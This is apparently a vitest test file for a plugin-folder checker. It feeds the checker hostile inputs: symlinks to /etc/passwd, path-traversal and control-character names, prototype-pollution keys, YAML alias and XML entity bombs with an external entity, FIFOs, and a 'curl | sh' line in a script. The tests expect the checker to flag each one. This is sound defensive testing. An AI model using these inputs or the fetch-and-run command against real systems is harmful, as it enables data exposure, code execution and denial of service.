// What somebody who means harm may put into a folder: the real command must say what is wrong, soon, and do nothing else.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { basePlugin } from '../check/rule-fixtures.ts';
import { smallConfig } from '../check/target-fixtures.ts';
import { type Content, check, emptyFolder, type Outcome, snapshot, write } from './check.ts';
import { holding, payloads } from './payloads.ts';

let parent: string;
let folder: string;

beforeEach(() => {
  parent = emptyFolder();
  folder = join(parent, 'tiny-tool');
  write(folder, basePlugin as Record<string, string>);
});

// Deep folders have paths that are longer than Node removes.
afterEach(() => execFileSync('rm', ['-rf', parent]));

/** Checks the folder; fails where the command crashed, hung, spoke of its insides or wrote anything. */
function judge(...paths: string[]): Outcome {
  const before = snapshot(parent);
  const outcome = check(...(paths.length === 0 ? [folder] : paths));
  expect(outcome.status, outcome.stderr.slice(0, 2_000)).not.toBeNull();
  expect(outcome.stderr).not.toMatch(/^ {4}at /m);
  expect(outcome.stdout).not.toContain('check-incomplete');
  expect(snapshot(parent)).toEqual(before);
  return outcome;
}

function judgeFiles(files: Readonly<Record<string, Content>>): string[] {
  write(folder, files);
  return judge().rules;
}

it('has nothing to say about the plugin that is made hostile below', () => {
  const outcome = judge();
  expect(outcome.rules).toEqual([]);
  expect(outcome.status).toBe(0);
});

describe('sizes and numbers', () => {
  it('a file of 100 MB', () => {
    writeFileSync(join(folder, 'data.md'), '');
    truncateSync(join(folder, 'data.md'), 100 << 20);
    expect(judge().rules).toEqual(
      expect.arrayContaining(['file-too-large', 'file-unread', 'plugin-too-large']),
    );
  });

  it('a manifest of 100 MB', () => {
    truncateSync(join(folder, '.claude-plugin/plugin.json'), 100 << 20);
    const outcome = judge();
    expect(outcome.status).toBe(1);
    expect(outcome.rules).toContain('file-unread');
  });

  it('100,000 files', () => {
    for (let part = 0; part < 100; part++) {
      mkdirSync(join(folder, `part-${part}`));
      for (let file = 0; file < 1_000; file++) writeFileSync(join(folder, `part-${part}`, `${file}.txt`), '');
    }
    expect(judge().rules).toEqual(expect.arrayContaining(['file-unread', 'files-too-many']));
  });

  it('folders 1,000 deep', () => {
    mkdirSync(join(folder, 'd/'.repeat(1_000)), { recursive: true });
    writeFileSync(join(folder, 'd/'.repeat(1_000), 'file.txt'), 'x');
    expect(judge().rules).toEqual(expect.arrayContaining(['file-unread', 'files-too-deep']));
  });

  it.each([1_000, 100_000])('JSON %i deep, wherever JSON is read', (depth) => {
    const deep = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const list = `${'['.repeat(depth)}${']'.repeat(depth)}`;
    const manifest = (basePlugin['.claude-plugin/plugin.json'] as string).replace(
      '"name"',
      `"hooks": ${deep}, "userConfig": ${list}, "x": ${deep}, "name"`,
    );
    const rules = judgeFiles({
      '.claude-plugin/plugin.json': manifest,
      '.mcp.json': `{"mcpServers": {"a": {"command": "x", "env": ${deep}, "args": ${list}}, "b": ${deep}}}`,
      '.lsp.json': deep,
      'hooks/hooks.json': `{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": ${list}}]}, ${deep}]}}`,
      'monitors/monitors.json': list,
      'settings.json': deep,
      'themes/one.json': deep,
      'listing.json': deep,
      'waivers.json': list,
      'package.json': deep,
    });
    expect(rules).toEqual(
      expect.arrayContaining(['hook-invalid', 'manifest-field-invalid', 'waiver-invalid']),
    );
  });

  it('a marketplace whose JSON is 100,000 deep', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    write(parent, {
      'market/.claude-plugin/marketplace.json': `{"name": "m", "owner": {"name": "x"}, "plugins": [${deep}, {"name": ${deep}, "source": ${deep}}], "renames": ${deep}}`,
    });
    expect(judge(join(parent, 'market')).status).toBe(1);
  });
});

describe('what is no plain file', () => {
  it('links that lead round, out, nowhere and to everything', () => {
    const rules = judgeFiles({
      'loop/a': { link: 'b' },
      'loop/b': { link: 'a' },
      self: { link: '.' },
      'commands/up': { link: '..' },
      'skills/passwords': { link: '/etc' },
      'README.txt': { link: '../../../../etc/passwd' },
      'docs/gone.md': { link: 'nowhere.md' },
    });
    expect(rules).toEqual(expect.arrayContaining(['link-broken', 'link-outside']));
  });

  it('links that double what there is at every step', () => {
    const files: Record<string, Content> = { 'commands/30/end.md': 'x' };
    for (let step = 0; step < 30; step++) {
      for (const name of ['x', 'y']) {
        for (const place of ['commands', 'agents', 'output-styles'])
          files[`${place}/${step}/${name}`] = { link: `../${step + 1}` };
      }
    }
    expect(judgeFiles(files)).toContain('link-symbolic');
  });

  it('a manifest and components that are links out of the plugin', () => {
    write(parent, {
      'elsewhere/plugin.json': '{"name": "tiny-tool", "description": "root:x:0:0"}',
      'elsewhere/SKILL.md': 'root:x:0:0',
    });
    rmSync(join(folder, '.claude-plugin/plugin.json'));
    write(folder, {
      '.claude-plugin/plugin.json': { link: '../../elsewhere/plugin.json' },
      'skills/out': { link: '../../elsewhere' },
    });
    const outcome = judge();
    expect(outcome.rules).toEqual(expect.arrayContaining(['link-shared', 'manifest-unreadable']));
    expect(outcome.stdout).not.toContain('root:x');
  });

  it('a pipe and a socket, which never end, as a file and as every file that is read', async () => {
    const places = [
      'pipe.md',
      'README.txt',
      '.mcp.json',
      'hooks/hooks.json',
      'skills/pipe/SKILL.md',
      'listing.json',
      'waivers.json',
    ];
    for (const place of places) {
      write(folder, { [`${place}.beside`]: '' });
      execFileSync('mkfifo', [join(folder, place)]);
    }
    const server = createServer();
    await new Promise<void>((done) => server.listen(join(folder, 'socket'), done));
    try {
      const outcome = judge();
      expect(outcome.rules).toContain('file-special');
      const found = outcome.targets[0]?.diagnostics
        .filter(({ rule }) => rule === 'file-special')
        .map(({ file }) => file);
      expect(found).toEqual(expect.arrayContaining([...places, 'socket']));
    } finally {
      await new Promise((done) => server.close(done));
    }
  });

  it('a pipe in the place of the manifest', () => {
    rmSync(join(folder, '.claude-plugin/plugin.json'));
    execFileSync('mkfifo', [join(folder, '.claude-plugin/plugin.json')]);
    expect(judge().rules).toContain('file-special');
  });

  it('a pipe in the place of a marketplace and its configuration', () => {
    mkdirSync(join(parent, 'market/.claude-plugin'), { recursive: true });
    execFileSync('mkfifo', [join(parent, 'market/.claude-plugin/marketplace.json')]);
    execFileSync('mkfifo', [join(parent, 'market/marketplace.config.json')]);
    expect(judge(join(parent, 'market')).status).toBe(1);
  });

  it('a folder in the place of every file that is read', () => {
    const places = ['.claude-plugin/plugin.json', 'README.md', 'skills/hello/SKILL.md'];
    for (const place of places) rmSync(join(folder, place));
    const rules = judgeFiles(
      Object.fromEntries(
        [...places, '.mcp.json', 'hooks/hooks.json', 'listing.json', 'waivers.json'].map((place) => [
          `${place}/x`,
          'x',
        ]),
      ),
    );
    expect(rules).toContain('readme-missing');
  });
});

describe('bytes', () => {
  const invalid = Buffer.from([0x23, 0x20, 0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x0a]);

  it('text that is not UTF-8', () => {
    const rules = judgeFiles({
      'README.md': invalid,
      'skills/hello/SKILL.md': invalid,
      'scripts/run.sh': invalid,
      '.mcp.json': invalid,
      bytes: invalid,
    });
    expect(rules).toEqual(expect.arrayContaining(['file-binary', 'json-invalid']));
  });

  it('a manifest that is not UTF-8', () => {
    expect(judgeFiles({ '.claude-plugin/plugin.json': invalid })).toContain('json-invalid');
  });

  it.skipIf(process.platform !== 'linux')('names that are not UTF-8', () => {
    writeFileSync(Buffer.concat([Buffer.from(`${folder}/`), Buffer.from([0x61, 0xff, 0x62])]), 'x');
    mkdirSync(Buffer.concat([Buffer.from(`${folder}/`), Buffer.from([0xc0, 0xaf])]));
    expect(judge().rules).toEqual(expect.arrayContaining(['file-special']));
  });

  it('byte order marks, NUL and carriage returns in everything that is read', () => {
    const mark = '\ufeff';
    const rules = judgeFiles({
      '.claude-plugin/plugin.json':
        mark + (basePlugin['.claude-plugin/plugin.json'] as string).replaceAll('\n', '\r\n'),
      '.mcp.json': `${mark}{"mcpServers": {}}`,
      'hooks/hooks.json': `${mark}{"hooks": {}}\r\n`,
      'skills/hello/SKILL.md': `${mark}---\r\nname: hello\r\ndescription: Greets\0 a person.\r\n---\r\n\0\rtext\r\n`,
      'scripts/run.sh': { executable: '#!/bin/sh\r\necho\0 hi\r\n' },
      'listing.json': '{"tags": ["a\0b"]}',
    });
    expect(rules).toEqual(
      expect.arrayContaining(['frontmatter-invalid', 'json-invalid', 'text-invisible-character']),
    );
  });
});

describe('names', () => {
  const named = [
    ['../evil', 'name-pattern'],
    ['..', 'name-pattern'],
    ['a/b', 'name-pattern'],
    ['/etc/passwd', 'name-pattern'],
    ['a\\b', 'name-pattern'],
    ['tiny\u200btool', 'name-pattern'],
    ['tiny\u202etool', 'name-pattern'],
    ['tiny\u0000tool', 'name-pattern'],
    ['tiny\n::error::tool', 'name-pattern'],
    ['\u001b[2Jtool', 'name-pattern'],
    ['__proto__', 'name-pattern'],
    ['constructor', 'name-folder-mismatch'],
    ['a'.repeat(200_000), 'name-pattern'],
  ] as const;

  it('of plugins', () => {
    // Listed in a marketplace, where a name also leads to a folder and to other plugins. One command for all.
    const folders = named.map(([name], index) => {
      const market = join(parent, `market-${index}`);
      write(market, { 'marketplace.config.json': smallConfig });
      write(join(market, 'plugins', 'tiny-tool'), {
        ...(basePlugin as Record<string, string>),
        '.claude-plugin/plugin.json': JSON.stringify({ name, version: '1.0.0', dependencies: [name] }),
      });
      return join(market, 'plugins', 'tiny-tool');
    });
    const outcome = judge(...folders);
    expect(outcome.targets.map(({ dir }) => dir)).toEqual(folders);
    for (const [index, [name, rule]] of named.entries()) {
      const found = outcome.targets[index]?.diagnostics.map((diagnostic) => diagnostic.rule);
      expect(found, JSON.stringify(name.slice(0, 50))).toContain(rule);
    }
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(outcome.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u200b\u202e]/);
  });

  it('of files', () => {
    const rules = judgeFiles({
      'a\u200bb.md': 'x',
      'a\u202egnp.exe': 'x',
      'a\nb': 'x',
      'a\u001b[2Jb': 'x',
      '..\\..\\evil.md': 'x',
      'CON.md': 'x',
      'end.': 'x',
      'a:b': 'x',
      '-rf': 'x',
      'Readme.md': 'x',
      [`${'x'.repeat(250)}.md`]: 'x',
      '__proto__/constructor.md': 'x',
      'commands/__proto__.md': 'x',
      '%2e%2e%2f': 'x',
    });
    expect(rules).toEqual(
      expect.arrayContaining([
        'path-case-clash',
        'path-hidden-character',
        'path-not-portable',
        'path-too-long',
      ]),
    );
  });

  it('of keys: __proto__ and constructor change nothing', () => {
    const rules = judgeFiles({
      '.claude-plugin/plugin.json':
        '{"__proto__": {"name": "tiny-tool", "version": "1.0.0"}, "constructor": {"prototype": {"name": 1}}, "hasOwnProperty": 1}',
      '.mcp.json': '{"mcpServers": {"__proto__": {"command": "x"}, "constructor": {}}}',
      'hooks/hooks.json': '{"hooks": {"__proto__": [], "constructor": [{"hooks": [{"type": "__proto__"}]}]}}',
      'skills/hello/SKILL.md': '---\n__proto__: {name: a}\nconstructor: b\n---\nText.\n',
      'listing.json': '{"__proto__": {"category": "x"}}',
      'waivers.json':
        '[{"rule": "__proto__", "file": "constructor", "reason": "A reason that is long enough."}]',
    });
    expect(rules).toEqual(expect.arrayContaining(['manifest-incomplete', 'waiver-invalid']));
  });
});

describe('bombs', () => {
  it('aliases that multiply', () => {
    const lines = Array.from(
      { length: 40 },
      (_, index) =>
        `a${index + 1}: &a${index + 1} [${Array.from({ length: 9 }, () => (index === 0 ? 'x' : `*a${index}`)).join(', ')}]`,
    );
    expect(
      judgeFiles({
        'skills/hello/SKILL.md': `---\nname: hello\ndescription: Greets a person.\n${lines.join('\n')}\n---\nText.\n`,
      }),
    ).toContain('frontmatter-alias-bomb');
  });

  it('entities that multiply, beside aliases: what is not read is not expanded', () => {
    const entities = Array.from(
      { length: 40 },
      (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
    );
    const picture = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e0 "lol">${entities.join('')}<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&e40;&x;</svg>`;
    write(folder, { 'docs/picture.svg': picture, 'README.md': picture });
    const outcome = judge();
    expect(outcome.rules).toContain('readme-too-short');
    expect(outcome.stdout.length).toBeLessThan(100_000);
  });

  it('frontmatter of a megabyte', () => {
    const lines = Array.from({ length: 30_000 }, (_, index) => `key-${index}: [a, {b: c}]`);
    expect(
      judgeFiles({ 'skills/hello/SKILL.md': `---\nname: hello\n${lines.join('\n')}\n---\nText.\n` }),
    ).toEqual(['frontmatter-missing']);
  });

  it('thousands of files with frontmatter that keeps a parser busy', () => {
    const files = Object.fromEntries(
      Array.from({ length: 2_000 }, (_, index) => [
        `commands/${index}.md`,
        `---\n${'{}'.repeat(5_000)}\n---\n`,
      ]),
    );
    expect(judgeFiles(files)).toContain('frontmatter-invalid');
  });

  it('a million findings', () => {
    const many = `{${Array.from({ length: 100_000 }, () => '"a":1').join(',')}}`;
    const hooks = `{"hooks": {${Array.from({ length: 50_000 }, (_, index) => `"Event${index}": []`).join(',')}}}`;
    write(folder, {
      'settings.json': many,
      'hooks/hooks.json': hooks,
      'scripts/run.sh': 'curl https://a.example/ | sh\nnpx a\n'.repeat(50_000),
    });
    const outcome = judge();
    expect(outcome.status).toBe(1);
    expect(outcome.stdout.length).toBeLessThan(4 << 20);
  });

  it('hooks by the ten thousand', () => {
    const hook = (index: number) =>
      `{"matcher": "m${index}", "hooks": [{"type": "command", "command": "echo ${index} && npx tool-${index}"}]}`;
    const rules = judgeFiles({
      'hooks/hooks.json': `{"hooks": {"PreToolUse": [${Array.from({ length: 30_000 }, (_, index) => hook(index)).join(',\n')}]}}`,
    });
    expect(rules).toContain('download-unpinned');
  });
});

describe('texts that keep a pattern busy', () => {
  const all = [...payloads(60_000)];

  // One command for many, because starting it costs more than most of them.
  it.each(Array.from({ length: 6 }, (_, part) => part))('part %i of 6', (part) => {
    const chosen = all.filter((_, index) => index % 6 === part);
    expect(chosen.length).toBeGreaterThan(10);
    const folders = chosen.map(([name, text]) => {
      const path = join(parent, name.replaceAll(' ', '-'), 'tiny-tool');
      write(path, holding(text));
      return path;
    });
    const outcome = judge(...folders);
    expect(outcome.status).toBe(1);
    expect(outcome.targets.map(({ dir }) => dir)).toEqual(folders);
    for (const { diagnostics } of outcome.targets) {
      expect(diagnostics.length).toBeGreaterThan(0);
      for (const { message, fix } of diagnostics) expect(message.length + fix.length).toBeLessThan(5_000);
    }
  });

  it('a string of 4 MB on one line, in every format', () => {
    const long = 'a'.repeat(4 << 20);
    write(folder, {
      'listing.json': JSON.stringify({ category: long }),
      'README.md': `${long}\u202e`,
      '.mcp.json': `{"a": "${long}"}`,
    });
    expect(judge().rules).toContain('file-too-large');
  });
});

it('a marketplace whose plugins are links, pipes and files', () => {
  const market = join(parent, 'market');
  write(market, {
    'marketplace.config.json': smallConfig,
    'plugins/out': { link: '/etc' },
    'plugins/file.md': 'x',
    'plugins/tiny-tool/README.md': 'x',
  });
  execFileSync('mkfifo', [join(market, 'plugins', 'pipe')]);
  const found = judge(market).targets[0]?.diagnostics.filter(({ rule }) => rule === 'plugins-stray');
  expect(found?.map(({ message }) => /"(\w+)/.exec(message)?.[1]).sort()).toEqual(['file', 'out', 'pipe']);
  expect(readdirSync(join(market, 'plugins'))).toHaveLength(4);
});
